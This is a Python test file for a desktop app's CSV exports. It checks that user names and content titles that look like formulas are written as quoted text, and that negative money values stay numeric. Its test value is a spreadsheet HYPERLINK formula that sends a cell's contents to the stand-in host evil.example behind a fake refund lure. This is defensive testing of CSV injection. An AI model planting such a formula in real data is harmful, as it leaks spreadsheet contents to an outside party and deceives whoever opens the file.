"""Exports open in a spreadsheet as text: a customer's formula-like name never runs."""

from __future__ import annotations

import csv

from sqlalchemy import text

from desktop.pages.users import UsersPage

WAIT = 20_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'


def test_users_export_writes_a_formula_like_name_as_text(qtbot, demo_database, demo_engine,
                                                         tmp_path):
    with demo_engine.begin() as conn:
        user_id = conn.execute(text(
            "SELECT id FROM users WHERE deleted_at IS NULL ORDER BY email LIMIT 1")).scalar()
        conn.execute(text("UPDATE users SET full_name = :n WHERE id = :i"),
                     {"n": FORMULA, "i": user_id})
        conn.execute(text("UPDATE users SET full_name = '-2+3' WHERE id <> :i AND id IN "
                          "(SELECT id FROM users WHERE id <> :i ORDER BY email LIMIT 1)"),
                     {"i": user_id})
    page = UsersPage(demo_database)
    qtbot.addWidget(page)
    page.show()
    qtbot.waitUntil(lambda: page.model.rowCount() > 0 and not page.model.is_loading,
                    timeout=WAIT)
    target = tmp_path / "users.csv"
    handle = page.export_to(target)
    qtbot.waitUntil(lambda: not handle.is_running, timeout=WAIT)
    qtbot.waitUntil(target.exists, timeout=WAIT)
    raw = target.read_text(encoding="utf-8-sig")
    with target.open(newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    by_id = {r[0]: r for r in rows[1:]}
    name = by_id[str(user_id)][2]
    # What a spreadsheet sees: text starting with a quote, never a formula; nothing lost.
    assert name == "'" + FORMULA
    assert '"\'=HYPERLINK(' in raw  # the cell is quoted too
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert "'-2+3" in {r[2] for r in rows[1:]}


def test_revenue_top_content_export_writes_a_formula_like_title_as_text(qtbot, empty_database,
                                                                        engine, tmp_path):
    import datetime as dt

    from desktop.pages.revenue import RevenuePage
    from tests.data.test_revenue_queries import build_fixture

    build_fixture(engine)
    with engine.begin() as conn:
        conn.execute(text("UPDATE content SET title = :t WHERE title = 'Item v1'"),
                     {"t": FORMULA})
    page = RevenuePage(empty_database)
    qtbot.addWidget(page)
    with qtbot.waitSignal(page.snapshot_loaded, timeout=WAIT):
        page.set_custom_range(dt.date(2025, 1, 1), dt.date(2025, 3, 31))
    page.export_csv("top_content", tmp_path / "top.csv")
    page.export_csv("revenue", tmp_path / "revenue.csv")
    with (tmp_path / "top.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[1][2] == "'" + FORMULA
    # Money the app computed stays a number a spreadsheet can add up, sign and all.
    lines = (tmp_path / "revenue.csv").read_text(encoding="utf-8").splitlines()
    assert any(line.endswith(",-55.00") for line in lines)
